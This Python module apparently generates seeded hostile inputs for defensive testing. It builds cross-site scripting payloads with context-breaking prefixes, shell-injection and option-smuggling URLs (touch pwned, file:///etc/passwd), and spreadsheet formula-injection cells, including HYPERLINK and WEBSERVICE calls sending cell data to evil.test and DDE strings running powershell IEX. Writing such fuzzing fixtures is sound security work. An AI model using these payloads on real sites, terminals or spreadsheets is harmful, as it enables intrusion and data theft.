"""Text that attacks whoever shows it: seeded, so that a failure can be repeated."""

import random
import re

INVISIBLE = re.compile(
    "[\x00-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164"
    "\ufe00-\ufe0f\ufeff\uffa0\ufff0-\uffff\ud800-\udfff\U000e0000-\U000e0fff]"
)

CALL = "window.__pwn=(window.__pwn||0)+1"

TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<!--<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<style>@import 'https://evil.test/x.css'</style><b onclick={}>",
    "<link rel=stylesheet href=https://evil.test/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://evil.test/{}>",
    '<a href="javascript:{}">',
    "<form action=javascript:{}><button autofocus>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<template><script>{}</script></template>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{ config.__class__ }}}}{}",
    "{{% for x in ().__class__.__mro__ %}}{}{{% endfor %}}",
    "${{{}}}",
    "#{{{}}}",
    "expression({})",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "alert(document.domain);{}",
)
BREAKS = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</style>",
    "</svg>",
    "</pre>",
    "*/",
    "\n",
    "\x00",
    "\u202e",
    "\u2028",
    "\\",
    "\\'",
)


def payloads(count: int) -> list[str]:
    """That many different payloads, every tag behind every break first."""
    every = [before + tag.format(CALL) for before in BREAKS for tag in TAGS]
    chance = random.Random(7)
    while len(every) < count:
        every.append("".join(chance.choice(every[:200]) for _ in range(2)))
    return every[:count]


def hostile_urls(count: int) -> list[str]:
    """That many URLs that try to leave their quotes, become an option, or drive a terminal."""
    parts = (
        "'",
        '"',
        "`id`",
        "$(touch pwned)",
        "${HOME}",
        ";touch pwned;",
        "|touch pwned",
        "&touch pwned&",
        ">pwned",
        "<pwned",
        "\\",
        "\\'",
        "'\\''",
        "!!",
        "!$",
        "*",
        "?x=[1-9]",
        "{a,b}",
        "~",
        "#",
        " ",
        "\t",
        "\n",
        "\r\n",
        "\x03",
        "\x1b[2J",
        "\x00",
        "\x7f",
        "\x9b31m",
        "\u202e",
        "\u200b",
        "%00",
        "%s%n",
        "é",
        "😀",
        "\ud800",
        "--next",
        "-o",
        "@file",
        "\u2018",
        "\u2019;",
        "[key:0a1b2c3d]",
    )
    starts = (
        "https://api.example.test/",
        "http://api.example.test/?q=",
        "-o/etc/passwd",
        "--config=x",
        "//host/",
        "/path",
        "@x",
        "file:///etc/passwd",
        "HTTPS://h/",
        "javascript:",
    )
    chance = random.Random(11)
    return [
        chance.choice(starts) + "".join(chance.choice(parts) for _ in range(1 + number % 7))
        for number in range(count)
    ]


FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.test/?"&A1,"open")',
    'WEBSERVICE("https://evil.test/"&A2)',
    "SUM(1;2)*cmd|' /C powershell IEX'!Z",
    'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
    "DDE(0;0;1)",
)
FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
FORMULA_LEADS = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\x00",
    '"',
    '",',
    ";",
    "'",
)


def formulas(count: int) -> list[str]:
    """That many cells that spreadsheets would compute, or that try to end their quotes and start one."""
    chance = random.Random(13)
    every = [
        lead + start + formula for start in FORMULA_STARTS for lead in FORMULA_LEADS for formula in FORMULAS
    ]
    return chance.sample(every, min(count, len(every)))
